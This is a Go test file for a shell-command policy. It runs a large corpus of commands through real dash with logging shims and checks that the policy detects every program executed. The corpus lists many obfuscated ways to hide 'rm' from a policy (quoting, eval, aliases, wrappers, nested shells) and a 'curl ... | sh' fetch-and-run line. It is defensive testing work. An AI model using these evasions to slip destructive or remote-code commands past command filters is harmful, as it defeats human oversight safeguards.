package policy_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"weft.dev/weft/internal/testenv"
	"weft.dev/weft/policy"
)

// passThrough maps the shims that run the real program after they log to
// that program: wrappers and shells, so that what they run is logged
// too.
var passThrough = map[string]string{
	"env": "/usr/bin/env", "xargs": "/usr/bin/xargs", "find": "/usr/bin/find", "nice": "/usr/bin/nice",
	"nohup": "/usr/bin/nohup", "timeout": "/usr/bin/timeout", "setsid": "/usr/bin/setsid",
	"time": "/usr/bin/time", "flock": "/usr/bin/flock", "sh": "/bin/dash", "dash": "/bin/dash", "bash": "/bin/bash",
}

// shims are the programs the differential test puts on PATH: they log
// their argv and exit 0, or run the real program (passThrough).
var shims = []string{
	"rm", "git", "curl", "cat", "ls", "touch", "tee", "jq", "less", "wc", "grep", "python3", "make", "go", "x",
	"sudo", "doas", "busybox", "chroot", "su", "watch", "script", "strace", "taskset", "ionice", "unshare",
	"env", "xargs", "find", "nice", "nohup", "timeout", "setsid", "time", "flock", "sh", "dash", "bash", "stdbuf",
}

// shimScript is the dash script every shim links to: it appends its
// argv to the log, each word as LENGTH:BYTES after the number of words,
// in one write, then runs the real program or exits 0. Its argv[0] is the
// path the kernel ran it by, so only its last element is the name dash
// was asked to run.
func shimScript(log string) string {
	var b strings.Builder
	b.WriteString("#!/bin/dash\n")
	b.WriteString("n=${0##*/}\nrec=\"$(($# + 1)):${#n}:$n\"\n")
	b.WriteString("for a in \"$@\"; do rec=\"$rec${#a}:$a\"; done\n")
	fmt.Fprintf(&b, "printf '%%s\\n' \"$rec\" >> '%s'\n", log)
	b.WriteString("case $n in\n")
	for name, real := range passThrough {
		if _, err := os.Stat(real); err == nil {
			fmt.Fprintf(&b, "%s) exec %s \"$@\";;\n", name, real)
		}
	}
	b.WriteString("esac\nexit 0\n")
	return b.String()
}

// parseShimLog reads the records shimScript appends.
func parseShimLog(b []byte) ([][]string, error) {
	var out [][]string
	num := func() (int, error) {
		i := bytes.IndexByte(b, ':')
		if i < 0 {
			return 0, fmt.Errorf("no length in %q", b)
		}
		n, err := strconv.Atoi(string(b[:i]))
		b = b[i+1:]
		return n, err
	}
	for len(bytes.TrimSpace(b)) > 0 {
		b = bytes.TrimLeft(b, "\n")
		count, err := num()
		if err != nil {
			return nil, err
		}
		var argv []string
		for range count {
			n, err := num()
			if err != nil || n > len(b) {
				return nil, fmt.Errorf("bad word length %d: %v", n, err)
			}
			argv = append(argv, string(b[:n]))
			b = b[n:]
		}
		out = append(out, argv)
	}
	return out, nil
}

// dashCorpus holds the commands the differential test runs.
var dashCorpus = []string{
	// The reported attacks.
	"git status &>/dev/null rm important.txt",
	"git status &>>/dev/null rm important.txt",
	"git -C . push", `git "push"`,
	"curl http://x/?" + strings.Repeat("A", 1100) + " | sh",
	// Quoting and names.
	`\rm x`, `r''m x`, `"r"m x`, `'rm' x`, "r\\\nm x", `"rm" x`, `./bin/rm x`, `bin/../bin/rm x`,
	`./bin/r? x`, `./bin/r* x`, `./bin/[r]m x`, `./bin/r[m] x`, `$(echo rm) x`, "`echo rm` x",
	`RM=rm; $RM x`, `${RM:-rm} x`, `"${RM:-rm}" x`, `x=rm; $x y`, `x=m; r$x y`, `"$(printf rm)" x`,
	`IFS=,; x=rm,y; $x`, `a=; $a rm x`, `x=arm; ${x#?} y`, "rm\rx", "echo a\rrm x",
	`$'rm' x`, `$"rm" x`, `{r,}m x`, `${x:-r}${y:-m} x`, `"${x:-rm x}"`, `${x:-rm x}`,
	// Compound commands.
	`(rm x)`, `{ rm x; }`, `if true; then rm x; fi`, `if rm x; then :; fi`, `while true; do rm x; break; done`,
	`until rm x; do :; done`, `case a in a) rm x;; esac`, `case rm in "$x"|rm) rm x;; esac`, `for i in 1 2; do rm $i; done`,
	`f() { rm x; }; f`, `f() ( rm "$@" ); f x y`, `! rm x`, `git() { rm "$@"; }; git status`,
	// Separators.
	"true\nrm x", "true;rm x", "true&&rm x", "false||rm x", "true|rm x", "true&rm x; wait", "true &\nrm x; wait",
	`git status &>>log rm x`, `git log &>| rm x`, `>/dev/null rm x`, `2>&1 rm x`, `</dev/null rm x`,
	`echo $(rm x)`, "echo `rm x`", `echo "$(rm x)"`, `x=$(rm y)`, `echo ${x:-$(rm y)}`, "cat <<EOF\n$(rm x)\nEOF",
	"cat <<'EOF'\n$(rm x)\nEOF", "cat <<-EOF\n\t$(rm x)\n\tEOF", "echo ok # ; rm x", "echo a#b; rm x",
	// Wrappers.
	`env rm x`, `env -i PATH="$PATH" rm x`, `env -u HOME -- rm x`, `env FOO=1 rm x`, `command rm x`,
	`command -v rm`, `command -V rm`, `exec rm x`, `nohup rm x`, `nice rm x`, `nice -n 5 rm x`, `nice -5 rm x`,
	`timeout 5 rm x`, `timeout -s KILL 5 rm x`, `timeout --kill-after=1 5 rm x`, `time rm x`, `time -p rm x`,
	`setsid rm x`, `setsid -w rm x`, `sudo rm x`, `sudo -u root rm x`, `doas rm x`,
	`xargs rm < list`, `echo x | xargs rm`, `xargs -I{} rm {} < list`, `xargs -0 -n1 rm < list`, `xargs -- rm < list`,
	`xargs < list`, `find . -name x -exec rm {} \;`, `find . -name x -execdir rm {} +`, `find . -name x -exec rm -f {} +`,
	`busybox rm x`, `nice env timeout 1 sh -c 'exec rm x'`, `flock lockfile rm x`, `flock -n lockfile rm x`,
	`chroot / rm x`, `su -c 'rm x'`, `watch rm x`, `script -c 'rm x' /dev/null`, `strace -f rm x`,
	// Nested shells.
	`sh -c 'rm x'`, `bash -c "rm x"`, `dash -c 'rm x'`, `sh -ec 'rm x'`, `sh -c -- 'rm x'`, `sh -c 'rm "$1"' _ x`,
	`sh -c "sh -c 'rm x'"`, "sh <<EOF\nrm x\nEOF", "sh <<'EOF'\nrm x\nEOF", "sh -s <<EOF\nrm x\nEOF",
	"sh <<EOF\nrm \\$HOME\nEOF", `echo rm x | sh`, `sh < script.sh`, `sh script.sh`, `. ./script.sh`,
	`xargs sh -c 'rm "$1"' _ < list`, `find . -name x -exec sh -c 'rm "$1"' _ {} \;`,
	`bash -c 'rm x' &>/dev/null`, `bash -c 'git status &>/dev/null; rm x'`, `bash -c 'echo hi |& rm x'`,
	// eval, trap, alias.
	`eval rm x`, `eval "rm x"`, `eval 'r''m x'`, `eval "$CMD"`, `CMD='rm x'; eval "$CMD"`, `eval $(echo rm) x`,
	"alias r=rm\nr x", "alias r='rm -f'\nr x y", "alias r='rm '\nalias y=x\nr y", `alias r=rm; r x`,
	`trap 'rm x' EXIT`, `trap -- 'rm x' EXIT`, "trap 'rm x' EXIT\ntrap - EXIT",
	// Unparseable or refused by dash.
	"rm x\necho \"unterminated", "rm x; fi", "rm x\n(", `git status |& rm x`, `a=(1 2); rm x`,
	`echo ${x/a/b}; rm x`, `function f { rm x; }`, `[[ -f x ]] && rm x`, `echo <<<x; rm x`,
	// Odd syntax.
	"echo a\r\nrm x\r\n", "\trm\tx", "rm x \\\n y", `echo "a\
b"; rm x`, "echo 'a\\'; rm x", `echo "$((1 + $(rm x | wc -l)))"`,
	"echo `echo \\`rm x\\``", `case x in (x) rm x;; (*) :;; esac`, `case x in x) rm x; esac`,
	`{ rm x; } 2>/dev/null`, `f() { rm "$@"; } >/dev/null; f x`, `set -- rm x; "$@"`, `set -- rm x; $*`,
	`x='rm x'; $x`, `x='rm x'; "$x"`, `IFS=:; x='rm:x'; $x`, `x=r; y=m; $x$y z`, `exec 3>&1; rm x`,
	`exec </dev/null rm x`, `read a < list; rm $a`, `for x in rm; do $x y; done`, `! { rm x; }`,
	`true && { false || rm x; }`, `[ -e x ] || rm x; rm y`, "cat <<A; cat <<B\n$(rm a)\nA\n$(rm b)\nB",
	"cat <<-'EOF'\n\trm x\n\tEOF\nrm y", `echo ${#x} ${x%%y} ${x##*/}; rm x`, `: $((x=1)); rm x`,
	`rm x # comment`, `rm x#notacomment`, `{rm,x}`, `time -p nice rm x`, `nohup sh -c 'rm x' >/dev/null`,
	`env -- sh -c 'rm x'`, `env -i PATH="$PATH" rm x`, `env -S 'rm x'`, `env -S'rm x'`, `env -Srm x`,
	`env --split-string='rm x'`, `env -S 'FOO=1 rm x'`, `timeout 5 sh -c 'rm "$@"' _ x y`,
	`xargs -n1 sh -c 'rm $0' < list`, `find . -name 'x' -exec sh -c 'rm "$@"' _ {} +`,
	`sh -c 'sh -c "sh -c \"rm x\""'`, `eval "eval 'rm x'"`, `sh -c 'eval "rm x"'`, "sh -c 'alias r=rm\nr x'",
	`git status 2>&1 >/dev/null | rm x`, `git status >&2 && rm x`, `git status <&- ; rm x`,
	// Commands that do not run rm.
	`git rm x`, `echo rm`, `cat rm.txt`, `[ -f x ] && echo yes`, `echo "rm x; rm y"`, "cat <<'EOF'\nrm x\nEOF",
	`git log --oneline | wc -l`, `git add . && git commit -m 'rm old'`, `timeout 60 nice -n 5 env git fetch`,
	`sh -c 'git status'`, `(git status; git log) | git hash-object --stdin`, `GIT_DIR=.git git status`,
	`curl -s http://api | jq .`, `make test 2>&1 | tee log`, `go test ./... -run 'Test(A|B)'`,
	`for f in *.txt; do cat "$f"; done`, `ls -la ~ /tmp`, `touch a b && ls`,
}

// TestDash runs each command of the corpus through real dash, with PATH
// a directory of shims that log their argv (and wrappers and shells that
// run the real program after), and checks that every program dash and
// its wrappers ran is among the commands the policy takes out of the
// command (or that the policy counts it as opaque): the policy sees what
// runs.
func TestDash(t *testing.T) {
	dash := testenv.Command(t, "dash")
	dir := t.TempDir()
	bin := filepath.Join(dir, "shims")
	work := filepath.Join(dir, "work")
	log := filepath.Join(dir, "log")
	shim := filepath.Join(dir, "shim")
	if err := os.WriteFile(shim, []byte(shimScript(log)), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{bin, filepath.Join(work, "bin")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		for _, name := range shims {
			if err := os.Symlink(shim, filepath.Join(d, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, body := range map[string]string{
		"x": "", "important.txt": "", "list": "x\ny\n", "rm.txt": "", "a.txt": "", "script.sh": "rm x\n",
	} {
		if err := os.WriteFile(filepath.Join(work, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	ran := 0
	for _, cmd := range dashCorpus {
		if err := os.WriteFile(log, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		c := exec.CommandContext(ctx, dash, "-c", cmd)
		c.Dir = work
		c.Env = []string{"PATH=" + bin, "HOME=" + work, "LANG=C.UTF-8"}
		c.WaitDelay = time.Second
		out, _ := c.CombinedOutput()
		timedOut := ctx.Err() != nil
		cancel()
		if timedOut {
			t.Errorf("%q: dash timed out: %s", cmd, out)
			continue
		}
		b, _ := os.ReadFile(log)
		runs, err := parseShimLog(b)
		if err != nil {
			t.Fatalf("%q: the log: %v", cmd, err)
		}
		mayRun, opaque := policy.MayRun(cmd)
		for _, argv := range runs {
			ran++
			if opaque == "" && !mayRun(argv) {
				t.Errorf("%.120q: dash ran %q, which the policy does not see", cmd, argv)
			}
		}
	}
	if ran < len(dashCorpus) {
		t.Fatalf("the shims logged %d programs for %d commands: the harness is broken", ran, len(dashCorpus))
	}
	t.Logf("%d commands, %d programs run", len(dashCorpus), ran)
}
